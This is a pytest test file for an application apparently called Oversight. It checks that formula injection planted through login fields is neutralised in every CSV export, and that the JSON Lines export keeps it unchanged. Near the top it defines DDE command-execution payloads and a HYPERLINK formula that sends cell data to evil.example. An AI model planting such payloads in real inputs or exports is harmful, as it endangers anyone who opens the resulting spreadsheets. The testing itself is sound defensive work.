"""Issue 12, finding 1: formula injection through CSV exports, planted without signing in.

A failed login with a username or User-Agent a spreadsheet would evaluate lands in the audit
trail; every CSV Oversight writes shows such cells neutralised (a leading `'`, OWASP), and the
JSON Lines export keeps the exact value. The test walks every route and every command that
can produce CSV, so a new CSV export without a case here fails."""

from __future__ import annotations

import csv
import enum
import io
import json
import typing
from collections.abc import Callable, Iterator

import pytest
import typer.main
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from builders import make_invoice, make_request, make_user
from oversight.audit.events import record_event
from oversight.cli import app as cli
from oversight.config import DatabaseSettings, get_settings
from oversight.db.encrypted import bind_keyring
from oversight.db.migrate import upgrade
from oversight.db.session import create_db_engine, session_factory, unit_of_work
from oversight.kit.spreadsheet import FORMULA_PREFIXES, CsvWriter, neutralise
from oversight.main import create_app
from oversight.vocabulary import Role
from routes import routes_of

pytestmark = pytest.mark.no_rate_limits

CALC = "=cmd|' /C calc'!A0"
# Over HTTP: what a username (JSON) and a User-Agent (a header: no leading TAB, no CR) carry.
OVER_HTTP = [CALC, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"]  # fmt: skip
# Leading TAB and CR survive no login form (inputs are stripped) but may reach the trail as a
# reason or a detail from elsewhere: planted directly.
OTHER_TEXT = ["\t=1+1", "\r=1+1", "＝1+1"]  # noqa: RUF001


def _plant_over_http(client: TestClient) -> None:
    for payload in OVER_HTTP:
        response = client.post(
            "/api/v1/auth/login",
            json={"username": payload, "password": "not the password at all"},
            headers={"User-Agent": payload},
        )
        assert response.status_code == 401, response.text


def _plant_text(session) -> None:
    for payload in OTHER_TEXT:
        record_event(session, "test.planted", reason=payload, details={"note": payload})


def _cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text)):
        yield from row


def _assert_neutralised(text: str) -> None:
    cells = list(_cells(text))
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert dangerous == [], dangerous
    for payload in OVER_HTTP:
        assert "'" + payload in cells, payload  # the User-Agent
        assert "'" + payload.lower() in cells, payload  # the username tried (normalised)
    for payload in OTHER_TEXT:
        assert "'" + payload in cells, repr(payload)


def _assert_exact(lines: list[dict[str, object]]) -> None:
    names = {line["actor_name"] for line in lines}
    agents = {line["user_agent"] for line in lines}
    reasons = {line["reason"] for line in lines}
    for payload in OVER_HTTP:
        assert payload.lower() in names
        assert payload in agents
    for payload in OTHER_TEXT:
        assert payload in reasons


# -- every CSV producer, found by walking the API and the command line -------------------------


def _csv_choice(annotation: object) -> bool:
    if isinstance(annotation, type) and issubclass(annotation, enum.Enum):
        return any(member.value == "csv" for member in annotation)
    return any(_csv_choice(arg) for arg in typing.get_args(annotation))


def _params(dependant) -> Iterator[object]:
    yield from dependant.query_params
    for sub in dependant.dependencies:
        yield from _params(sub)


def csv_routes(application) -> set[str]:
    """Routes that can answer CSV: a query choice offering `csv`, or a path ending in .csv."""
    found = set()
    for route in routes_of(application):
        if route.dependant is None:
            continue
        choices = any(_csv_choice(p.field_info.annotation) for p in _params(route.dependant))
        if choices or route.path.endswith(".csv"):
            found.add(f"{route.method} {route.path}")
    return found


def csv_commands() -> set[str]:
    """`oversight` commands with an option that offers `csv`."""
    found = set()

    def walk(command: typing.Any, path: str) -> None:
        if hasattr(command, "list_commands"):  # the root loads its commands lazily
            context = typer.Context(command, info_name=path or "oversight")
            for name in command.list_commands(context):
                walk(command.get_command(context, name), f"{path} {name}".strip())
            return
        for param in command.params:
            descriptor = getattr(param, "type_descriptor", None)
            choices = getattr(getattr(param, "type", None), "choices", ())
            if _csv_choice(getattr(descriptor, "annotation", None)) or "csv" in choices:
                found.add(path)

    walk(typer.main.get_command(cli), "")
    return found


def _export_route_audit(client: TestClient, headers: dict[str, str], fmt: str) -> str:
    response = client.get(f"/api/v1/audit/export?format={fmt}", headers=headers)
    assert response.status_code == 200, response.text
    return response.text


ROUTE_CASES: dict[str, Callable[[TestClient, dict[str, str], str], str]] = {
    "GET /api/v1/audit/export": _export_route_audit,
}


def _export_command_audit(tmp_path, fmt: str) -> str:
    out = tmp_path / f"trail.{fmt}"
    result = CliRunner().invoke(cli, ["audit", "export", "--out", str(out), "--format", fmt])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as stream:  # CR inside a cell stays a CR
        return stream.read()


COMMAND_CASES: dict[str, Callable[..., str]] = {"audit export": _export_command_audit}


def _plant_request(session, payload: str) -> None:
    make_request(session, title=payload[:200])


def _plant_invoice(session, payload: str) -> None:
    make_invoice(session, description=payload)


# Exports of desk records (CSV only): the text a user typed into a record is planted there.
RECORD_CASES: dict[str, Callable[..., None]] = {
    "GET /api/v1/requests/export.csv": _plant_request,
    "GET /api/v1/invoices/export.csv": _plant_invoice,
}


def test_every_csv_route_and_command_has_a_case_here(app):
    assert csv_routes(app) == set(ROUTE_CASES) | set(RECORD_CASES)
    assert csv_commands() == set(COMMAND_CASES)


@pytest.mark.parametrize("route", sorted(RECORD_CASES))
def test_record_exports_neutralise_formulas_typed_into_records(client, session, auth, route):
    for payload in OVER_HTTP + OTHER_TEXT:
        RECORD_CASES[route](session, payload)
    response = client.get(route.split(" ")[1], headers=auth(make_user(session, Role.admin)))
    assert response.status_code == 200, response.text
    cells = list(_cells(response.text))
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert dangerous == [], dangerous
    for payload in OVER_HTTP + OTHER_TEXT:
        assert "'" + payload in cells, repr(payload)


@pytest.mark.parametrize("route", sorted(ROUTE_CASES))
def test_csv_routes_neutralise_planted_formulas_and_jsonl_keeps_them(client, session, auth, route):
    _plant_over_http(client)
    _plant_text(session)
    headers = auth(make_user(session, Role.admin))
    _assert_neutralised(ROUTE_CASES[route](client, headers, "csv"))
    jsonl = ROUTE_CASES[route](client, headers, "jsonl")
    _assert_exact([json.loads(line) for line in jsonl.splitlines()])


@pytest.fixture
def committed_world(monkeypatch, settings, backend, database_url_factory, tmp_path):
    """A committed database the CLI reads, with the formulas planted through a real app."""
    for name in list(__import__("os").environ):
        if name.startswith("OVERSIGHT_"):
            monkeypatch.delenv(name)
    database = DatabaseSettings(url=database_url_factory(backend))
    settings = settings.model_copy(update={"database": database})
    monkeypatch.setenv("OVERSIGHT_DATABASE__URL", database.url)
    monkeypatch.chdir(tmp_path)
    get_settings.cache_clear()
    engine = create_db_engine(settings.database)
    bind_keyring(engine, settings.encryption.keyring)
    upgrade(engine)
    with TestClient(create_app(settings, engine=engine)) as client:
        _plant_over_http(client)
    with unit_of_work(session_factory(engine)) as session:
        _plant_text(session)
    yield
    engine.dispose()
    get_settings.cache_clear()


@pytest.mark.parametrize("command", sorted(COMMAND_CASES))
def test_csv_commands_neutralise_planted_formulas_and_jsonl_keeps_them(
    committed_world, tmp_path, command
):
    _assert_neutralised(COMMAND_CASES[command](tmp_path, "csv"))
    jsonl = COMMAND_CASES[command](tmp_path, "jsonl")
    _assert_exact([json.loads(line) for line in jsonl.splitlines()])


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_each_dangerous_prefix_is_neutralised_and_nothing_else_changes(prefix):
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
    assert neutralise("a" + prefix) == "a" + prefix
    assert neutralise(-5) == -5
    buffer = io.StringIO()
    CsvWriter(buffer).writerow([prefix + "x", "plain", None, 3])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'" + prefix + "x", "plain", "", "3"]
